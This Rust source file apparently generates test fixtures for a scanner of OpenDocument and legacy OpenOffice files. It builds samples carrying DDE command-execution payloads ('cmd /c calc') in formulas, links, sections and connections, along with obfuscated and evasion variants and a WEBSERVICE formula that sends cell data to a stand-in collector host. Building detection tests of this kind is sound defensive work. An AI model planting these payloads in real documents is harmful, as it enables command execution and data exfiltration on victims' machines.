//! OpenDocument and its predecessor: five places, in packages and flat files.

use super::{EXPECT, Expect, Sample, sample};
use crate::make::zip::zip;

const OASIS: &str = "xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" \
                     xmlns:table=\"urn:oasis:names:tc:opendocument:xmlns:table:1.0\" \
                     xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" \
                     xmlns:draw=\"urn:oasis:names:tc:opendocument:xmlns:drawing:1.0\" \
                     xmlns:xlink=\"http://www.w3.org/1999/xlink\"";
const OLD: &str = "xmlns:office=\"http://openoffice.org/2000/office\" \
                   xmlns:table=\"http://openoffice.org/2000/table\" \
                   xmlns:text=\"http://openoffice.org/2000/text\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"";

/// A DDE source; its attributes have the same names in both vocabularies.
const SOURCE: &str = "<office:dde-source office:dde-application=\"cmd\" office:dde-topic=\"/c calc\" \
                      office:dde-item=\"x\"/>";

/// The five places: name, whether it belongs to a spreadsheet, and the body's inside.
fn places() -> [(&'static str, bool, String); 5] {
    let formula = |text: &str| {
        format!(
            "<table:table table:name=\"One\"><table:table-row><table:table-cell table:number-columns-repeated=\"3\"/>\
         <table:table-cell table:formula=\"{text}\" office:value-type=\"string\" office:string-value=\"old\">\
         <text:p>old</text:p></table:table-cell></table:table-row></table:table>"
        )
    };
    let cached = "<table:table><table:table-row><table:table-cell><text:p>old</text:p></table:table-cell>\
                  </table:table-row></table:table>";
    [
        ("formula", true, formula("of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)")),
        (
            "dde-links",
            true,
            format!("<table:dde-links><table:dde-link>{SOURCE}{cached}</table:dde-link></table:dde-links>"),
        ),
        ("table", true, format!("<table:table table:name=\"One\">{SOURCE}<table:table-row/></table:table>")),
        ("section", false, format!("<text:section text:name=\"s\">{SOURCE}<text:p>old</text:p></text:section>")),
        (
            "connection",
            false,
            "<text:dde-connection-decls><text:dde-connection-decl office:name=\"n\" office:dde-application=\"cmd\" \
             office:dde-topic=\"/c calc\" office:dde-item=\"x\" office:automatic-update=\"true\"/>\
             </text:dde-connection-decls><text:p><text:dde-connection text:connection-name=\"n\">old\
             </text:dde-connection></text:p>"
                .to_owned(),
        ),
    ]
}

fn content(spaces: &str, root: &str, spreadsheet: bool, inner: &str) -> String {
    let kind = if spreadsheet { "spreadsheet" } else { "text" };
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<office:{root} {spaces} office:version=\"1.2\"><office:body>\
         <office:{kind}>{inner}</office:{kind}></office:body></office:{root}>"
    )
}

fn package(media: &str, parts: &[(&str, &str)]) -> Vec<u8> {
    let manifest: String = parts
        .iter()
        .map(|(name, _)| {
            format!("<manifest:file-entry manifest:media-type=\"text/xml\" manifest:full-path=\"{name}\"/>")
        })
        .collect();
    let manifest = format!(
        "<?xml version=\"1.0\"?><manifest:manifest \
         xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\">{manifest}</manifest:manifest>"
    );
    let mut entries = vec![("mimetype", media)];
    entries.extend(parts);
    entries.push(("META-INF/manifest.xml", &manifest));
    zip(&entries)
}

const ODS: &str = "application/vnd.oasis.opendocument.spreadsheet";
const ODT: &str = "application/vnd.oasis.opendocument.text";

pub(super) fn samples() -> Vec<Sample> {
    let mut all = Vec::new();
    for (index, (_, spreadsheet, inner)) in places().iter().enumerate() {
        five(index, *spreadsheet, inner, &mut all);
    }
    others(&mut all);
    silent(&mut all);
    all
}

/// One place in a package, in flat XML and in the old vocabulary.
fn five(index: usize, spreadsheet: bool, inner: &str, all: &mut Vec<Sample>) {
    const NAMES: [[&str; 3]; 5] = [
        ["l1-formula.ods", "l1-formula.fods", "l1-formula.sxc"],
        ["l1-dde-links.ods", "l1-dde-links.fods", "l1-dde-links.sxc"],
        ["l1-table.ods", "l1-table.fods", "l1-table.sxc"],
        ["l1-section.odt", "l1-section.fodt", "l1-section.sxw"],
        ["l1-connection.odt", "l1-connection.fodt", "l1-connection.sxw"],
    ];
    let Some([new, flat, old]) = NAMES.get(index) else { return };
    let media = if spreadsheet { ODS } else { ODT };
    let modern = content(OASIS, "document-content", spreadsheet, inner);
    all.push(sample("L1", new, package(media, &[("content.xml", &modern)]), EXPECT));
    all.push(sample("L1", flat, content(OASIS, "document", spreadsheet, inner), EXPECT));
    let legacy = content(OLD, "document-content", spreadsheet, &inner.replace("of:=", "oooc:="))
        .replace("<office:spreadsheet>", "")
        .replace("</office:spreadsheet>", "")
        .replace("<office:text>", "")
        .replace("</office:text>", "");
    let media = if spreadsheet { "application/vnd.sun.xml.calc" } else { "application/vnd.sun.xml.writer" };
    all.push(sample("L1", old, package(media, &[("content.xml", &legacy)]), EXPECT));
}

fn cell(formula: &str) -> String {
    format!(
        "<table:table table:name=\"One\"><table:table-row><table:table-cell table:formula=\"{formula}\"/>\
         </table:table-row></table:table>"
    )
}

fn others(all: &mut Vec<Sample>) {
    let sheet = |inner: &str| content(OASIS, "document-content", true, inner);
    let excel = sheet(&cell("msoxl:=cmd|'/c calc'!A0"));
    all.push(sample("L1", "l1-excel-grammar.ods", package(ODS, &[("content.xml", &excel)]), EXPECT));
    let spelled = sheet(&cell("of:=DDE(CHAR(99)&amp;&quot;md&quot;;&quot;/c calc&quot;;&quot;x&quot;;1)"));
    all.push(sample("L1", "l1-spelled.ods", package(ODS, &[("content.xml", &spelled)]), EXPECT));
    let plain = sheet("<table:table/>");
    let inner = sheet(&cell("of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)"));
    let parts = [("content.xml", plain.as_str()), ("Object 1/content.xml", inner.as_str())];
    all.push(sample("L1", "l1-embedded-object.ods", package(ODS, &parts), EXPECT));
    let master = content(OASIS, "document-styles", false, &format!("<text:section>{SOURCE}</text:section>"));
    let parts = [("content.xml", plain.as_str()), ("styles.xml", master.as_str())];
    all.push(sample("other-story", "l1-styles.odt", package(ODT, &parts), EXPECT));
    let no_mimetype = zip(&[("content.xml", inner.as_str())]);
    all.push(sample("L1", "l1-no-mimetype.ods", no_mimetype, EXPECT));
    let prefixed = inner.replace("table:", "q:").replace("xmlns:table", "xmlns:q");
    all.push(sample("xml-encoding", "l1-other-prefix.ods", package(ODS, &[("content.xml", &prefixed)]), EXPECT));
    let manual = SOURCE.replace("/>", " office:automatic-update=\"false\"/>");
    let manual = content(OASIS, "document", false, &format!("<text:section>{manual}</text:section>"));
    all.push(sample("L1", "l1-manual-update.fodt", manual, EXPECT));
    let orphan = "<text:dde-connection-decls><text:dde-connection-decl office:name=\"n\" \
                  office:dde-application=\"cmd\" office:dde-topic=\"/c calc\" office:dde-item=\"x\"/>\
                  </text:dde-connection-decls><text:p>no connection</text:p>";
    all.push(sample("orphan-link", "l1-unused-connection.fodt", content(OASIS, "document", false, orphan), EXPECT));
    let web = sheet(&cell("of:=COM.MICROSOFT.WEBSERVICE(&quot;http://collector.example/?q=&quot;&amp;[.A1])"));
    let web = package(ODS, &[("content.xml", &web)]);
    all.push(sample("X15", "x15-webservice.ods", web, Expect::Related("exfiltration")));
    let included = "<text:section text:name=\"s\"><text:section-source xlink:href=\"http://host.example/x.odt\"/>\
                    <text:p>old</text:p></text:section>";
    let included = content(OASIS, "document", false, included);
    all.push(sample("L1", "l1-linked-section.fodt", included, Expect::Related("include-field")));
}

fn silent(all: &mut Vec<Sample>) {
    let quiet = "<table:table table:name=\"DDE\"><table:table-row><table:table-cell table:formula=\"of:=SUM([.A1:.B2])\"/>\
                 <table:table-cell><text:p>=DDE(\"cmd\";\"/c calc\";\"x\")</text:p></table:table-cell>\
                 <table:table-cell table:formula=\"of:=&quot;a|'b'!c&quot;\"/></table:table-row></table:table>";
    let text = content(OASIS, "document-content", true, quiet);
    all.push(sample("L1", "l1-silent.ods", package(ODS, &[("content.xml", &text)]), Expect::Silent));
    all.push(sample("L1", "l1-silent.fods", content(OASIS, "document", true, quiet), Expect::Silent));
    let prose = "<text:p>DDE and DDEAUTO: cmd|'/c calc'!A0</text:p><text:p><text:a xlink:href=\"https://host.example/\">\
                 site</text:a></text:p>";
    all.push(sample("L1", "l1-silent.fodt", content(OASIS, "document", false, prose), Expect::Silent));
}
